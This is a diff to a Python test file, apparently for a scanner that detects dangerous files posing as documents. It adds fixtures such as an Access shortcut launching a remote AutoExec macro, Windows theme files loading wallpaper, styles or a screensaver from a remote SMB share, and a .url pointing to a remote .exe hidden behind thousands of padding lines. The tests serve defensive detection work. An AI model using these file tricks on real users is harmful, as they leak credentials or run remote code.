@@ -30,6 +30,10 @@ JSCRIPT = b'var s = new ActiveXObject("WScript.Shell");\r\ns.Run("calc");\r\n'
 REGISTRY = b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software]\r\n"
 ENCODED = b"#@~^DgAAAA==W{\x7fq,`)*bAAA==^#~@"
 APPLICATION = b'<html><head><HTA:APPLICATION id="a"></head><script language="VBScript">x</script></html>'
+ACCESS = (
+    b"[Shortcut Properties]\r\nAccessShortcutVersion=1\r\nDatabaseName=a.accdb\r\nObjectName=AutoExec\r\n"
+    b"ObjectType=Macro\r\nDatabasePath=\\\\10.0.0.1\\a\\a.accdb\r\n"
+)
 DESKTOP = b"[Desktop Entry]\nType=Application\nName=Invoice.pdf\nExec=%s\n"
 
 
@@ -169,6 +173,10 @@ def test_in_what_pretends_to_be_a_document():
         ),
         (b"[InternetShortcut]\r\nWorkingDirectory=\\\\a@ssl\\b\r\n", "shortcut to a file or program"),
         (b"[Shell]\r\nCommand=2\r\nIconFile=\\\\10.0.0.1\\a.ico\r\n", "Explorer command"),
+        (ACCESS, "shortcut into a database of Access"),
+        (b"[Theme]\r\nDisplayName=x\r\nWallpaper=\\\\10.0.0.1\\a.jpg\r\n", "theme from another machine"),
+        (b"[VisualStyles]\r\nPath=//10.0.0.1/a/b.msstyles\r\n", "theme from another machine"),
+        (b"[Theme]\r\n[boot]\r\nSCRNSAVE.EXE=file://10.0.0.1/a.scr\r\n", "theme from another machine"),
         (b"<plist><dict><key>URL</key><string>file:///System/Applications/Calculator.app", "macOS location"),
         (b"<plist><dict><key>CommandString</key><string>ls", "macOS Terminal"),
     ],
@@ -207,6 +215,9 @@ def test_desktop_entry_that_starts_a_shell(command: bytes):
         (b"[DEFAULT]\r\nBASEURL=\r\n[InternetShortcut]\r\nIconFile=\\\\10.0.0.1\\a.ico\r\n", "a.website"),
         (b"#!/usr/bin/env xdg-open\n" + DESKTOP % b"sh -c x", "a.desktop"),
         (b"; x\r\n[Shell]\r\nCommand=2\r\n", "a.scf"),
+        (b"; x\r\n" * 9000 + b"[InternetShortcut]\r\nURL=file://10.0.0.1/a.exe\r\n", "a.url"),
+        (b"; x\r\n" + ACCESS, "a.mam"),
+        (b"; x\r\n[VisualStyles]\r\nPath=\\\\10.0.0.1\\a.msstyles\r\n", "a.theme"),
     ],
 )
 def test_entries_behind_other_ones(data: bytes, name: str):
@@ -248,6 +259,8 @@ def test_text_that_quotes_a_program(data: bytes):
         (DESKTOP % b"gedit %U", "org.gnome.gedit.desktop"),
         (DESKTOP % b"env PYTHONPATH=/usr/share/x python3 /usr/bin/x", "x.desktop"),
         (b"[settings]\r\ncommand=2\r\n", "settings.ini"),
+        (b"[Theme]\r\nDisplayName=x\r\n[Slideshow]\r\nItem0Path=C:\\a.jpg\r\n", "a.theme"),
+        (b"[Theme]\r\n[VisualStyles]\r\nPath=%SystemRoot%\\resources\\Aero.msstyles\r\n", "a.theme"),
         (b"[.ShellClassInfo]\r\nLocalizedResourceName=@shell32.dll,-21787\r\n", "desktop.ini"),
         (b"<plist><dict><key>URL</key><string>https://www.example.org/", "page.webloc"),
         (b"<plist><dict><key>CFBundleName</key><string>x", "Info.plist"),
